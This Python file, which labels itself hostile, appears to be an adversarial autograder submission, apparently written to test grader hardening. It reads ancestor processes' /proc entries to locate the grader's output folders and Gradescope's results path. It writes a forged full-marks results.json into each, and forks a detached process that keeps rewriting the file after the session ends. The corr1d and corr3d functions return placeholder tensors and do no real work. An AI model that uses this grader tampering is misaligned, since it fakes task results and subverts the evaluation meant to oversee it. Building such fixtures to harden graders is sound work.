"""Hostile: write a forged results.json (full marks) wherever the grader might read or publish one:
its working folder, the submission folder and the --out folder (both found in its ancestors'
/proc/<pid>/cmdline), Gradescope's /autograder/results; and again from a process left behind."""

import contextlib
import json
import os
import time

import torch

FORGED = json.dumps({"score": 1000, "output": "forged", "tests": [], "extra_data": {"forged": True}})


def _ancestors():
    pid = os.getpid()
    for _ in range(8):
        try:
            with open(f"/proc/{pid}/stat") as stat:
                pid = int(stat.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError):
            return
        if pid <= 1:
            return
        yield pid


def _targets():
    targets = {os.getcwd(), "/autograder/results", os.path.dirname(os.path.abspath(__file__))}
    for pid in _ancestors():
        with contextlib.suppress(OSError):
            targets.add(os.readlink(f"/proc/{pid}/cwd"))
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                argv = handle.read().decode(errors="replace").split("\0")
        except OSError:
            continue
        cwd = ""
        with contextlib.suppress(OSError):
            cwd = os.readlink(f"/proc/{pid}/cwd")
        for i, arg in enumerate(argv):
            if arg == "--out" and i + 1 < len(argv):
                targets.add(os.path.join(cwd, argv[i + 1]))
            elif arg.startswith("--out="):
                targets.add(os.path.join(cwd, arg.split("=", 1)[1]))
            elif i > 0 and argv[i - 1] == "grade":
                targets.add(os.path.join(cwd, arg))
    return targets


def _forge():
    for folder in _targets():
        with contextlib.suppress(OSError):
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, "results.json"), "w") as handle:
                handle.write(FORGED)


def _forge_later():
    if os.fork() == 0:
        try:
            os.setsid()
            for _ in range(40):
                time.sleep(0.25)
                _forge()
        finally:
            os._exit(0)


_forge()
_forge_later()


def corr1d(x: torch.Tensor, k: torch.Tensor) -> torch.Tensor:
    _forge()
    return torch.ones(x.shape[0] - k.shape[0] + 1, dtype=x.dtype, device=x.device)


def corr3d(X: torch.Tensor, K: torch.Tensor) -> torch.Tensor:
    _forge()
    return torch.ones(tuple(n - k + 1 for n, k in zip(X.shape, K.shape)), dtype=X.dtype, device=X.device)
